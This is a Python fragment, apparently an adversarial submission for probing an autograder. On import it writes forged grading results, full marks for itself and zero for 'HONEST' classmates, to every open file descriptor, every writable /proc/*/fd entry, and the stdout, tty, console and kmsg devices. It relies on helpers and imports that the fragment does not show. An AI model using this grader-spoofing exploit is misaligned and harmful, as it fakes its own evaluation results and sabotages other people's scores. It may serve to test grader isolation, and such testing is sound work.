"""Writes forged result lines ({"result": ...} for the slot protocol, journal lines, a
wire frame) to every fd 0..1023 it holds, every /proc/*/fd/* it can open, /dev/stdout,
/dev/tty and /dev/console: full marks for itself, zero for classmates."""
# ---- the attack ----
import json
import struct


def _lines():
    out = []
    for sid, total in [(s, 0) for s in HONEST] + [("forge_results", 46)]:
        result = {"id": sid, "status": "graded", "error": "", "exercises": [], "total": total}
        out.append(json.dumps({"result": result, "job": sid, "token": "0" * 32}))
        out.append(json.dumps(result))
    out.append(json.dumps({"ready": True, "pid": 1}))
    return ("\n".join(out) + "\n").encode()


def attack():
    data = _lines()
    hits = []
    for fd in range(0, 1024):
        try:
            os.fstat(fd)
        except OSError:
            continue
        try:
            os.write(fd, data)
            hits.append(fd)
        except OSError as exc:
            _note(f"fd {fd}", exc.strerror)
    _note("own fds written", hits)
    for path in glob.glob("/proc/*/fd/*") + ["/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/console", "/dev/kmsg"]:
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError as exc:
            _note("open " + path, exc.strerror)
            continue
        try:
            os.write(fd, data)
            _note("wrote", path)
        except OSError as exc:
            _note("write " + path, exc.strerror)
        finally:
            os.close(fd)


_try("attack at import", attack)
attack_in_call = attack
